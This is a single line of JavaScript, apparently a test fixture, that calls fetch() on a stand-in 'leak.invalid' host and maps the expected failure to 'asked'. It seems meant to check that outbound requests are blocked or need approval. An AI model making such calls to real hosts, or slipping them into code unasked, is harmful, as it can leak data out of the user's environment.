fetch('http://leak.invalid/content').catch(() => 'asked');
